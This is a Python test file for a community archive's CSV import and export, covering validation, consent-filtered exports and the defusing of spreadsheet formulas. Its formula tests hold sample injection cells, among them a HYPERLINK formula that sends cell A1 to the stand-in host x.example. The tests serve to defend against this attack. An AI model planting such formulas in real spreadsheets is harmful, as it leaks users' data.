"""Spreadsheets in and out: `parlour import csv` and `parlour export csv`."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from parlour.csvio import (
    CSVError,
    columns,
    csv_export_command,
    csv_import_command,
    export_csv,
    format_row_problems,
    import_csv,
)
from parlour.archive.checks import check_archive
from parlour.archive.loader import load_archive

from .test_loader import write

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures"


@pytest.fixture
def archive(tmp_path) -> Path:
    """An archive with themes and a few records, in a temporary folder."""
    root = tmp_path / "archive"
    shutil.copytree(FIXTURES / "base", root)
    return root


@pytest.fixture
def empty(tmp_path) -> Path:
    root = tmp_path / "empty"
    (root / "stories").mkdir(parents=True)
    return root


def sheet(rows: list[list[str]]) -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def files(root: Path, type_: str) -> list[str]:
    folder = root / "stories" / type_
    return sorted(p.name for p in folder.iterdir()) if folder.is_dir() else []


# --------------------------------------------------------------------------- encodings


@pytest.mark.parametrize(
    ("codec", "label"),
    [("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8 with BOM"), ("gbk", "GBK")],
)
def test_encodings(archive, tmp_path, codec, label):
    text = sheet([
        ["id", "text_zh", "text_en", "by", "date", "status"],
        ["hot-water", "老虎灶能不能再开一天？", "Could the hot-water shop open one more day?",
         "二弄的老住户", "2026-06", "new"],
    ])
    path = tmp_path / "wishes.csv"
    path.write_bytes(text.encode(codec))

    result = import_csv(path, "wishes", root=archive)

    assert result.problems == []
    assert result.encoding == label
    assert [p.name for p in result.written] == ["hot-water.yml"]
    wish = load_archive(archive).records["wishes"]["hot-water"]
    assert wish.text == {"zh": "老虎灶能不能再开一天？",
                         "en": "Could the hot-water shop open one more day?"}
    assert wish.by == "二弄的老住户"


def test_neither_utf8_nor_gbk(archive, tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(b"id,text\r\nx,\x81\x20\xff\r\n")
    with pytest.raises(CSVError, match="neither UTF-8 nor GBK"):
        import_csv(path, "wishes", root=archive)


def test_fixture_sheet(archive):
    result = import_csv(FIXTURES / "csv/wishes.csv", "wishes", root=archive)
    assert result.problems == []
    assert result.rows == 2
    loaded = load_archive(archive)
    shade = loaded.records["wishes"]["more-shade"]
    # a plain `text` column is the default language; with text_en the two make a pair
    assert shade.text == {"zh": "弄堂口再多几把遮阳伞就好了。",
                          "en": "More sunshades at the lane mouth would be nice."}
    assert shade.approved is True and shade.themes == ["lane-life", "food"]
    market = loaded.records["wishes"]["night-market"]
    assert market.text == "想要一个夏天的夜市"  # only zh: a plain string, as written by hand
    assert market.approved is False and market.status == "heard"
    assert (archive / "stories/wishes/night-market.yml").read_text(encoding="utf-8") == (
        "text: 想要一个夏天的夜市\nby: anonymous\ndate: '2026'\nstatus: heard\napproved: false\n"
    )


# --------------------------------------------------------------------------- all or nothing


BAD_ROWS = {17: "date", 250: "text_zh", 501: "status"}


def test_500_rows_with_3_bad_rows_write_nothing(archive, tmp_path):
    rows = [["id", "text_zh", "text_en", "date", "status"]]
    for n in range(2, 502):  # spreadsheet rows 2..501: 500 records
        rows.append([f"wish-{n}", f"第{n}个心愿", f"Wish {n}", "2026-05", "new"])
    rows[17 - 1][3] = "2026-13"  # row 17: no month 13
    rows[250 - 1][1] = ""  # row 250: no text at all
    rows[250 - 1][2] = ""
    rows[501 - 1][4] = "finished"  # row 501: not a status
    path = tmp_path / "wishes.csv"
    path.write_text(sheet(rows), encoding="utf-8")
    before = files(archive, "wishes")

    result = import_csv(path, "wishes", root=archive, display="wishes.csv")

    assert result.written == []
    assert files(archive, "wishes") == before
    assert result.rows == 500
    assert sorted(p.line for p in result.problems) == [17, 250, 501]
    assert {p.line: p.message.split(":")[0] for p in result.problems} == {
        row: f"column {column}" for row, column in BAD_ROWS.items()
    }
    report = format_row_problems(result.problems)
    assert "row 17, column date: “2026-13” is not a date" in report
    assert "row 250, column text_zh:" in report
    assert "row 501, column status: “finished” is not one of the allowed values" in report
    # the problem's column is the sheet's column number, as a spreadsheet counts them
    assert {p.line: p.column for p in result.problems} == {17: 4, 250: 2, 501: 5}


def test_duplicate_id_in_the_file(archive, tmp_path):
    path = tmp_path / "w.csv"
    path.write_text(sheet([
        ["id", "text"], ["shade", "遮阳伞"], ["lamp", "路灯"], ["shade", "再说一遍遮阳伞"],
    ]), encoding="utf-8")
    result = import_csv(path, "wishes", root=archive)
    (problem,) = result.problems
    assert (problem.line, problem.code) == (4, "duplicate-id")
    assert "row 2" in problem.message
    assert result.written == [] and not (archive / "stories/wishes/lamp.yml").exists()


def test_existing_id_is_never_overwritten(archive, tmp_path):
    existing = archive / "stories/objects/coin-phone.md"
    original = existing.read_bytes()
    path = tmp_path / "o.csv"
    path.write_text(sheet([
        ["id", "title_zh", "body"], ["radio", "收音机", ""], ["coin-phone", "另一部电话", "x"],
    ]), encoding="utf-8")
    result = import_csv(path, "objects", root=archive)
    (problem,) = result.problems
    assert (problem.line, problem.code) == (3, "id-exists")
    assert "objects/coin-phone.md" in problem.message
    assert existing.read_bytes() == original
    assert not (archive / "stories/objects/radio.md").exists()


def test_ids_and_header(archive, tmp_path):
    path = tmp_path / "w.csv"
    path.write_text(sheet([
        ["id", "text", "colour", "approvd", "date"],
        ["", "没有编号", "", "", ""],
        ["", "", "", "", "2026"],
        ["Bus Stop", "公交站", "", "", ""],
        ["", "没有编号", "", "", ""],
    ]), encoding="utf-8")
    result = import_csv(path, "wishes", root=archive)
    found = {(p.line, p.column, p.code) for p in result.problems}
    assert found == {
        (1, 3, "csv-header"), (1, 4, "csv-header"),  # colour, approvd
        (3, 1, "missing-field"), (3, 2, "missing-field"),  # no id, and no text to make one
        (4, 1, "bad-id"),
        (5, 1, "duplicate-id"),  # the id made from the same text as row 2
    }
    approvd = next(p for p in result.problems if p.column == 4)
    assert "approved" in approvd.hint
    bad = next(p for p in result.problems if p.code == "bad-id")
    assert "bus-stop" in bad.hint
    dup = next(p for p in result.problems if p.code == "duplicate-id")
    assert "“mei-you-bian-hao” (made from the text) is already used on row 2" in dup.message


def test_id_made_from_the_title(archive, tmp_path):
    path = tmp_path / "o.csv"
    path.write_text(sheet([["title_zh", "title_en"], ["老虎灶的铜壶", ""], ["", "Coin phone"]]),
                    encoding="utf-8")
    result = import_csv(path, "objects", root=archive)
    (problem,) = result.problems
    assert (problem.line, problem.code) == (3, "id-exists")  # base has objects/coin-phone.md
    assert "made from the title" in problem.message

    path.write_text(sheet([["title_zh"], ["老虎灶的铜壶"]]), encoding="utf-8")
    result = import_csv(path, "objects", root=archive)
    assert [p.name for p in result.written] == ["lao-hu-zao-de-tong-hu.md"]

    path.write_text(sheet([["name_zh", "consent_level"], ["李秀珍", "public"]]), encoding="utf-8")
    result = import_csv(path, "people", root=archive)
    assert [p.name for p in result.written] == ["li-xiuzhen.yml"]


def test_person_ids_never_spell_a_private_name(archive, tmp_path):
    """A blank id is the name's pinyin only when the row's consent makes the name public."""
    path = tmp_path / "p.csv"
    path.write_text(sheet([
        ["name_zh", "name_en", "display_name", "consent_level", "consent_name"],
        ["周美芳", "", "", "public", ""],  # public name: pinyin, as before
        ["赵敏", "", "赵老师", "public", "private"],  # name narrowed: the display name
        ["钱二", "", "", "community", "private"],  # nothing else: a number
        ["孙三", "Sun San", "孙三师傅", "", ""],  # no consent given: not public; the display
        ["", "", "", "private", ""],  # name spells the name, so a number; a tombstone too
        ["李四", "", "李阿姨", "public", "community"],  # name public only in the parlour
    ]), encoding="utf-8")
    result = import_csv(path, "people", root=archive)
    assert [p.name for p in result.written] == [
        "zhou-meifang.yml", "zhao-laoshi.yml", "resident-18.yml", "resident-19.yml",
        "resident-20.yml", "li-ayi.yml",
    ]  # the base archive has resident-17 already
    problems = [p for p in check_archive(archive) if p.severity == "error"]
    assert {p.path for p in problems} == {"stories/people/resident-19.yml"}  # no consent


def test_numbered_parts_and_bodies(empty, tmp_path):
    path = tmp_path / "events.csv"
    rows = [
        ["id", "date", "title_zh", "images_1_src", "images_2_src", "images_2_alt_en", "body"],
        ["fair", "2026-05", "集市", "", "events/fair.jpg", "Stalls; a crowd", ""],
        ["talk", "2026-06", "讲座", "", "", "", "第一段。\r\n\r\n第二段。"],
        ["bad", "2026-07", "坏", "", "", "no picture", ""],
    ]
    path.write_text(sheet(rows), encoding="utf-8")
    result = import_csv(path, "events", root=empty)
    # item 2 has alt text but no picture: the problem names item 2's column
    (problem,) = result.problems
    assert (problem.line, problem.message.split(":")[0]) == (4, "column images_2_src")

    path.write_text(sheet(rows[:-1]), encoding="utf-8")
    result = import_csv(path, "events", root=empty)
    assert result.problems == []
    assert files(empty, "events") == ["fair.yml", "talk.md"]  # .md only with a body
    loaded = load_archive(empty)
    fair = loaded.records["events"]["fair"]
    assert [(i.src, i.alt) for i in fair.images] == [("events/fair.jpg", {"en": "Stalls; a crowd"})]
    assert loaded.sources[("events", "talk")].body.strip() == "第一段。\n\n第二段。"


# --------------------------------------------------------------------------- round trip


ROUND_TRIP = {
    "stories/themes.yml": "lane-life: {zh: 弄堂生活, en: Lane life}\n",
    "stories/people/li.yml": (
        "name: 李秀珍\n"
        "display_name: {zh: 李阿姨, en: Auntie Li}\n"
        "born: 1952\n"
        "portrait: {src: li.jpg, alt: {en: \"Auntie Li; smiling\"}}\n"
        "consent:\n"
        "  level: community\n"
        "  name: private\n"
        "  recorded: 2025-03-12\n"
        "  note: {zh: 口头同意, en: \"verbal, then signed\"}\n"
    ),
    "stories/objects/radio.md": (
        "---\n"
        "title: {zh: 收音机, en: Radio}\n"
        "number: '0042'\n"
        "date: 1975~\n"
        "lender: li\n"
        "loan: {from: 2026-09-01}\n"
        "images:\n"
        "  - src: radio.jpg\n"
        "    alt: {zh: 红灯牌收音机, en: \"A radio; its dial lit\"}\n"
        "  - src: radio-back.jpg\n"
        "    caption: 背面\n"
        "  - src: radio-box.jpg\n"
        "themes: [lane-life]\n"
        "related: [people/li]\n"
        "---\n"
        "\n"
        "每天晚上七点，全家围着它听评弹。\n"
        "\n"
        "- 第一条：=1+1 只是文字\n"
        "\n"
        "Every evening at seven, \"the whole family\", listened.\n"
    ),
    "stories/events/radio-hour.yml": (
        "date: 1980/1985\n"
        "title: {zh: 广播时间, en: \"-5 degrees\"}\n"
        "summary: {zh: \"'=already quoted\", en: \"+86 21 5555 0000\"}\n"
        "status: happened\n"
        "sources:\n"
        "  - {title: 区志, url: 'https://example.org/a?b=1,2', accessed: 2025-01}\n"
        "  - {title: {en: Newspaper}}\n"
        "consent: {level: public}\n"
    ),
    "stories/wishes/radio-again.yml": (
        "text: {zh: 再听一次评弹, en: \"Pingtan, once more\"}\n"
        "by: people/li\n"
        "approved: true\n"
        "era: future\n"
    ),
    # cells a spreadsheet would run: they go out quoted and come back as they were
    "stories/wishes/formula.yml": (
        "text: {zh: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1, \\\"点我\\\")\", en: \"@SUM(1+1)\"}\n"
        "by: \"-2+3\"\n"
        "date: \"2026\"\n"
        "approved: true\n"
    ),
    "stories/wishes/plain-number.yml": (
        "text: \"-5\"\n"
        "by: \"+ 老邻居\"\n"
        "approved: true\n"
        "era: future\n"
    ),
}


@pytest.mark.parametrize("source", ["made", "sample"])
def test_round_trip(tmp_path, empty, source):
    if source == "made":
        root = tmp_path / "made"
        for rel, text in ROUND_TRIP.items():
            write(root, rel, text)
    else:
        root = ROOT
    original = load_archive(root)
    for type_ in ("objects", "events", "wishes", "people"):
        text = export_csv(root, type_, unfiltered=True)
        assert text.startswith("\ufeff")  # for Excel
        path = tmp_path / f"{source}-{type_}.csv"
        path.write_bytes(text.encode("utf-8"))
        result = import_csv(path, type_, root=empty)
        assert result.problems == [], format_row_problems(result.problems)
        assert result.encoding == "UTF-8 with BOM"

    copy = load_archive(empty)
    for type_ in ("objects", "events", "wishes", "people"):
        before = original.records.get(type_, {})
        after = copy.records.get(type_, {})
        assert sorted(after) == sorted(before)
        for id_, record in before.items():
            assert after[id_].model_dump() == record.model_dump(), f"{type_}/{id_}"
            assert (copy.sources[(type_, id_)].body.strip()
                    == original.sources[(type_, id_)].body.strip())
    if source == "made":
        assert files(empty, "objects") == ["radio.md"]
        assert len(load_archive(empty).records["objects"]["radio"].images) == 3


def test_export_of_an_empty_type_is_a_blank_sheet(empty):
    text = export_csv(empty, "objects")
    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header == [c.name for c in columns("objects")]
    assert header[:3] == ["id", "title_zh", "title_en"]
    assert {"loan_from", "loan_status", "images_1_src", "images_1_alt_zh", "body"} <= set(header)
    people = [c.name for c in columns("people")]
    assert {"consent_level", "consent_name", "consent_note_zh", "portrait_src"} <= set(people)
    assert "body" not in people


def test_export_notes_records_with_errors(tmp_path):
    write(tmp_path, "stories/wishes/ok.yml", "text: 好\napproved: true\n")
    write(tmp_path, "stories/wishes/broken.yml", "text: 坏\nstatus: maybe\n")
    notes: list[str] = []
    text = export_csv(tmp_path, "wishes", notes=notes)
    assert [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:] == ["ok"]
    assert notes == ["left out stories/wishes/broken.yml: it has errors (run `parlour check`)"]


# --------------------------------------------------------------------------- formulas


def rows_of(text: str) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("  =1+1", "'  =1+1"),  # LibreOffice can trim the spaces
        ("'=x", "''=x"),  # a quote already there gets one more, to come back as it was
        ("-5", "-5"),  # plain numbers: a spreadsheet reads a number, never a formula
        ("+3", "+3"),
        ("-0.5", "-0.5"),
        ("1985/..", "1985/.."),
        ("../1985", "../1985"),
        ("'hello", "'hello"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_and_restore(value, written):
    from parlour.spreadsheet import FORMULA_START, neutralise, restore

    assert neutralise(value) == written
    assert restore(written) == value
    if written != value:  # a positive control: the neutralised cell starts with the quote
        assert written[0] == "'" and written.lstrip("' ")[0] in FORMULA_START


def test_export_neutralises_formulas(tmp_path):
    """Both exports (the audience's and the committee's unfiltered copy) quote formulas."""
    root = tmp_path / "made"
    for rel, text in ROUND_TRIP.items():
        write(root, rel, text)
    for kwargs in ({}, {"audience": "public"}, {"unfiltered": True}):
        wishes = rows_of(export_csv(root, "wishes", **kwargs))
        formula = wishes["formula"]
        assert formula["text_zh"] == "'=HYPERLINK(\"http://x.example/?\"&A1, \"点我\")", kwargs
        assert formula["text_en"] == "'@SUM(1+1)"
        assert formula["by"] == "'-2+3"
        assert wishes["plain-number"]["text_zh"] == "-5"
        assert wishes["plain-number"]["by"] == "'+ 老邻居"
    objects = rows_of(export_csv(root, "objects", unfiltered=True))
    assert objects["radio"]["number"] == "0042"
    events = rows_of(export_csv(root, "events", unfiltered=True))
    assert events["radio-hour"]["summary_zh"] == "''=already quoted"
    assert events["radio-hour"]["summary_en"] == "'+86 21 5555 0000"


def test_import_restores_what_the_export_quoted(empty, tmp_path):
    path = tmp_path / "w.csv"
    path.write_text(sheet([
        ["id", "text_zh", "text_en", "by"],
        ["a", "'=SUM(A1)", "'hello", "'-5"],
        ["b", "''@x", "-5", "'+ 老邻居"],
    ]), encoding="utf-8")
    result = import_csv(path, "wishes", root=empty)
    assert result.problems == [], format_row_problems(result.problems)
    wishes = load_archive(empty).records["wishes"]
    assert wishes["a"].text == {"zh": "=SUM(A1)", "en": "'hello"}  # 'hello was never quoted
    assert wishes["a"].by == "-5"
    assert wishes["b"].text == {"zh": "'@x", "en": "-5"}
    assert wishes["b"].by == "+ 老邻居"


# --------------------------------------------------------------------------- audiences


AUDIENCE_ARCHIVE = {
    "stories/people/open.yml": (
        "name: {zh: 公开人, en: Open Person}\nconsent: {level: public}\n"),
    "stories/people/quiet.yml": (
        "name: {zh: 秘名字甲, en: Secretname Jia}\ndisplay_name: 老邻居\n"
        "consent: {level: public, name: private}\n"),
    "stories/people/local.yml": (
        "name: {zh: 社区人, en: Shequ Person}\nconsent: {level: community}\n"),
    "stories/people/gone.yml": "consent: {level: withdrawn}\n",
    "stories/objects/kettle.md": (
        "---\ntitle: 水壶\ndonor: quiet\ncredit_line: 秘名字甲惠赠\n"
        "related: [people/gone]\n---\n水壶的故事。\n"),
    "stories/objects/radio.md": "---\ntitle: 收音机\nlender: local\n---\n社区的收音机。\n",
}


def test_export_reads_the_audiences_view(tmp_path):
    root = tmp_path / "a"
    for rel, text in AUDIENCE_ARCHIVE.items():
        write(root, rel, text)
    notes: list[str] = []
    public = export_csv(root, "people", audience="public", notes=notes)
    assert set(rows_of(public)) == {"open", "quiet"}
    assert notes == ["left out 2 record(s) the public audience may not see"]
    quiet = rows_of(public)["quiet"]
    assert quiet["name_zh"] == quiet["name_en"] == "" and quiet["display_name_zh"] == "老邻居"
    assert "秘名字甲" not in public and "Secretname" not in public
    assert all(row["consent_level"] == "" for row in rows_of(public).values())

    community = export_csv(root, "people")  # the default: what the parlour may show
    assert set(rows_of(community)) == {"open", "quiet", "local"}
    assert "社区人" in community and "秘名字甲" not in community
    assert "public" not in community and "withdrawn" not in community  # no consent at all

    objects = rows_of(export_csv(root, "objects", audience="public"))
    assert set(objects) == {"kettle"}  # the radio is a community person's
    kettle = objects["kettle"]
    assert kettle["credit_line_zh"] == "" and kettle["related"] == ""
    assert kettle["body"] == "水壶的故事。"
    assert set(rows_of(export_csv(root, "objects"))) == {"kettle", "radio"}

    unfiltered = export_csv(root, "people", unfiltered=True)
    assert set(rows_of(unfiltered)) == {"open", "quiet", "local", "gone"}
    assert rows_of(unfiltered)["quiet"]["name_zh"] == "秘名字甲"
    assert rows_of(unfiltered)["gone"]["consent_level"] == "withdrawn"


# --------------------------------------------------------------------------- commands


@click.group()
def cli() -> None:
    """The wiring cli.py does: `csv` under the `import` and `export` groups."""


@cli.group("import")
def _import() -> None: ...


@cli.group("export")
def _export() -> None: ...


_import.add_command(csv_import_command)
_export.add_command(csv_export_command)


def test_commands(archive, tmp_path):
    runner = CliRunner()
    path = tmp_path / "w.csv"
    path.write_text(sheet([["id", "text", "date"], ["a", "甲", "2026"], ["b", "乙", "2026-13"]]),
                    encoding="gbk")
    result = runner.invoke(cli, ["import", "csv", str(path), "--type", "wishes",
                                 "--root", str(archive)])
    assert result.exit_code == 1
    assert f"read {path} as GBK" in result.output
    assert "row 3, column date: “2026-13” is not a date" in result.output
    assert "nothing was written" in result.output
    assert not (archive / "stories/wishes/a.yml").exists()

    path.write_text(sheet([["id", "text", "date"], ["a", "甲", "2026"]]), encoding="gbk")
    result = runner.invoke(cli, ["import", "csv", str(path), "--type", "wishes",
                                 "--root", str(archive)])
    assert result.exit_code == 0, result.output
    assert "stories/wishes/a.yml" in result.output

    out = tmp_path / "out.csv"
    result = runner.invoke(cli, ["export", "csv", "--type", "wishes", "--root", str(archive),
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,text_zh,text_en,")
    assert "甲".encode() not in data  # the wish is not approved: the parlour may not show it
    result = runner.invoke(cli, ["export", "csv", "--type", "wishes", "--root", str(archive),
                                 "--out", str(out), "--unfiltered"])
    assert result.exit_code == 0, result.output
    assert "甲".encode() in out.read_bytes()
    result = runner.invoke(cli, ["export", "csv", "--type", "people", "--root", str(archive),
                                 "--audience", "public"])
    assert result.exit_code == 0, result.output
    assert "wang-jianguo" in result.output and "li-meifang" not in result.output
    assert "left out 2 record(s) the public audience may not see" in result.output

    result = runner.invoke(cli, ["import", "csv", str(path), "--type", "places",
                                 "--root", str(archive)])
    assert result.exit_code == 2


def test_same_rules_as_the_open_data():
    # csvio keeps its own copies so that `parlour --help` does not import the exporter
    from parlour import csvio, data
    from parlour.archive import model

    assert csvio.LIST_SEP == data.LIST_SEP
    assert data.LANGS == model.DEFAULT_LANGUAGES
